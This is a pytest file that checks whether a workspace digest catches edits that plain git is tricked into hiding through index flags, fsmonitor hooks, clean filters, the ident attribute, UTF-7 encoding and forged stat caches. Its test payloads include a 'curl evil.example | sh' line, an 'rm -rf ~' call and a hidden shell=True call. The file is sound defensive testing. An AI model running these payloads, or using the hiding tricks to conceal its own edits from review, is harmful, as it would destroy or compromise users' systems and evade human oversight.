"""Tricks that make plain git report an edited tree as unchanged; none of them fools the code state.

Each test first shows that the trick is real (plain `git status` or the naive copy-the-index digest
is fooled), then that the workspace digest still names the edited content.
"""

from __future__ import annotations

import base64
import os
import time
from pathlib import Path

import pytest

from otel_mcp.core.workspace import Workspace, gitcmd
from tests.support.workspace import digest, forge_stat_cache, git, head_tree, make_repo, naive_tree, write

EVIL = "import os; os.system('curl evil.example | sh')\n"


def _edited_digest(repo: Path) -> str:
    """The digest the edited tree must have: the same content in a fresh, trick-free repository."""
    clean = make_repo(repo.parent / f"{repo.name}-clean", {})
    for path in repo.rglob("*"):
        rel = path.relative_to(repo)
        if ".git" in rel.parts or not path.is_file():
            continue
        (clean / rel).parent.mkdir(parents=True, exist_ok=True)
        (clean / rel).write_bytes(path.read_bytes())
        (clean / rel).chmod(path.stat().st_mode)
    (clean / ".gitattributes").unlink(missing_ok=True)
    return digest(clean)


def _edit_out_of_the_racy_window(path: Path, text: str) -> None:
    """Edit, then date the file well before the index that will be written (git compares the two to
    the second: a file as new as its index is re-read, which would expose the forgery)."""
    write(path, text)
    old = time.time() - 10
    os.utime(path, (old, old))


@pytest.mark.parametrize("flag", ["--assume-unchanged", "--skip-worktree"])
def test_index_flag_bits_do_not_hide_an_edit(tmp_path: Path, flag: str) -> None:
    repo = make_repo(tmp_path / "r")
    git(repo, "update-index", flag, "app.py")
    write(repo / "app.py", EVIL)
    assert git(repo, "status", "--porcelain") == "" and naive_tree(repo) == head_tree(repo)
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_core_ignore_stat_does_not_hide_an_edit(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    git(repo, "config", "core.ignoreStat", "true")
    write(repo / "app.py", "print('v2')\n")
    git(repo, "add", "-A")  # with ignoreStat, git marks what it adds assume-unchanged
    git(repo, "commit", "-q", "-m", "v2")
    write(repo / "app.py", EVIL)
    assert git(repo, "status", "--porcelain") == ""
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_an_fsmonitor_that_reports_nothing_does_not_hide_an_edit(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    hook = write(tmp_path / "fsmonitor.sh", "#!/bin/sh\nprintf 'token\\0'\n")
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(hook))
    git(repo, "config", "core.fsmonitorHookVersion", "2")
    git(repo, "status", "--porcelain")
    write(repo / "app.py", EVIL)
    assert git(repo, "status", "--porcelain") == "" and naive_tree(repo) == head_tree(repo)
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_a_clean_filter_that_maps_everything_to_the_same_content_is_not_run(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"app.py": "safe\n", ".gitattributes": "* filter=same\n"})
    git(repo, "config", "filter.same.clean", "echo same")
    git(repo, "config", "filter.same.required", "true")
    git(repo, "add", "--renormalize", ".")
    git(repo, "commit", "-q", "-m", "everything is 'same' in git")
    write(repo / "app.py", EVIL)
    assert naive_tree(repo) == head_tree(repo)
    edited = digest(repo)
    assert edited != head_tree(repo)
    write(repo / "app.py", "safe\n")
    assert digest(repo) != edited


def test_global_attributes_and_config_cannot_add_a_filter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = make_repo(tmp_path / "r")
    home = tmp_path / "home"
    write(home / ".gitconfig", '[filter "same"]\n\tclean = echo same\n')
    write(home / ".config" / "git" / "attributes", "* filter=same\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    write(repo / "app.py", EVIL)
    naive_evil, ours_evil = naive_tree(repo), digest(repo)
    write(repo / "app.py", "print('fine')\n")
    assert naive_tree(repo) == naive_evil  # plain git hashes the filter's output, not the file
    assert digest(repo) != ours_evil


def test_the_ident_attribute_cannot_hide_a_payload(tmp_path: Path) -> None:
    code = 'exec("$Id: print(1) $"[5:-1])\n'
    repo = make_repo(tmp_path / "r", {"app.py": code, ".gitattributes": "*.py ident\n"})
    write(repo / "app.py", code.replace("print(1)", "import os; os.system('rm -rf ~')"))
    assert git(repo, "diff") == "" and naive_tree(repo) == head_tree(repo)
    assert digest(repo) != head_tree(repo)


def test_core_filemode_false_does_not_hide_a_new_executable_bit(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    git(repo, "config", "core.fileMode", "false")
    (repo / "app.py").chmod(0o755)
    assert git(repo, "status", "--porcelain") == "" and naive_tree(repo) == head_tree(repo)
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_an_untracked_cache_with_a_restored_directory_mtime_does_not_hide_a_new_file(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    for key, value in (("core.untrackedCache", "true"), ("core.trustctime", "false"), ("core.checkStat", "minimal")):
        git(repo, "config", key, value)
    git(repo, "update-index", "--untracked-cache")
    old = time.time() - 60
    os.utime(repo / "pkg", (old, old))
    git(repo, "status", "--porcelain")
    git(repo, "status", "--porcelain")
    write(repo / "pkg" / "evil.py", EVIL)
    os.utime(repo / "pkg", (old, old))
    assert git(repo, "status", "--porcelain") == ""
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_a_forged_stat_cache_in_the_users_index_does_not_hide_an_edit(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    _edit_out_of_the_racy_window(repo / "app.py", "print('no')\n")  # same size as before
    forge_stat_cache(repo, "app.py")
    assert git(repo, "status", "--porcelain") == "" and naive_tree(repo) == head_tree(repo)
    assert digest(repo) == _edited_digest(repo) != head_tree(repo)


def test_a_forged_stat_cache_in_the_private_index_is_not_trusted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    with Workspace(repo, watch=False) as ws:
        clean = ws.current()
        private = next(Path(ws._temp).glob("repo-*/index"))
        _edit_out_of_the_racy_window(repo / "app.py", "print('no')\n")
        forge_stat_cache(repo, "app.py", private)
        assert ws.current().digest == _edited_digest(repo) != clean.digest


def test_an_edited_private_config_or_attributes_file_is_not_trusted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r")
    with Workspace(repo, watch=False) as ws:
        clean = ws.current()
        private = next(Path(ws._temp).glob("repo-*/git"))
        with (private / "config").open("a") as f:
            f.write('[core]\n\tignoreStat = true\n[filter "same"]\n\tclean = echo same\n')
        (private / "info" / "attributes").write_text("* filter=same\n")
        write(repo / "app.py", EVIL)
        assert ws.current().digest == _edited_digest(repo) != clean.digest
        write(repo / "app.py", "print('v3')\n")
        assert ws.current().digest == _edited_digest(repo)


def test_a_fake_git_early_on_path_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if not any(os.access(p, os.X_OK) for p in ("/usr/bin/git", "/usr/local/bin/git", "/bin/git")):
        pytest.skip("git is not installed in a system location here")
    repo = make_repo(tmp_path / "r")
    clean = head_tree(repo)
    fake = write(tmp_path / "bin" / "git", "#!/bin/sh\necho 4b825dc642cb6eb9a060e54bf8d69288fbee4904\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}{os.pathsep}{os.environ['PATH']}")
    gitcmd.git_program.cache_clear()
    try:
        assert gitcmd.git_program() != str(fake)
        assert digest(repo) == clean
    finally:
        gitcmd.git_program.cache_clear()


def _raw_tree(repo: Path, names: list[str]) -> str:
    """The tree of these top-level files as their bytes are on disk, with no attribute applied."""
    lines = []
    for name in names:
        blob = git(repo, "hash-object", "-w", "--no-filters", name).strip()
        lines.append(f"100644 blob {blob}\t{name}\n")
    return "git:" + git(repo, "mktree", stdin="".join(lines).encode()).strip()


def test_a_working_tree_encoding_cannot_make_the_digest_differ_from_the_bytes_on_disk(tmp_path: Path) -> None:
    # Read as ASCII (bandit, python) the payload is a comment; git decodes UTF-7 into a real line.
    newline = base64.b64encode("\n    ".encode("utf-16-be")).decode().rstrip("=")
    call = "subprocess.call(cmd, shell=True)"
    code = f"import subprocess\n\n\ndef run(cmd: str) -> int:\n    return 0  # +{newline}-return {call}\n"
    files = {"app.py": code, ".gitattributes": "app.py working-tree-encoding=UTF-7\n"}
    repo = make_repo(tmp_path / "r", files)
    assert "\n    return subprocess.call" in git(repo, "cat-file", "-p", "HEAD:app.py")  # what git stored
    assert git(repo, "status", "--porcelain") == ""
    state = digest(repo)
    assert state == _raw_tree(repo, [".gitattributes", "app.py"]) != head_tree(repo)


@pytest.mark.parametrize("attributes", ["* text eol=crlf\n", "* text=auto\n"])
def test_line_ending_attributes_cannot_make_the_digest_differ_from_the_bytes_on_disk(
    tmp_path: Path, attributes: str
) -> None:
    repo = make_repo(tmp_path / "r", {"app.py": "x = 1\n", ".gitattributes": attributes})
    write(repo / "app.py", "x = 1\r\n")  # git normalises this back to what is committed
    assert digest(repo) == _raw_tree(repo, [".gitattributes", "app.py"]) != head_tree(repo)
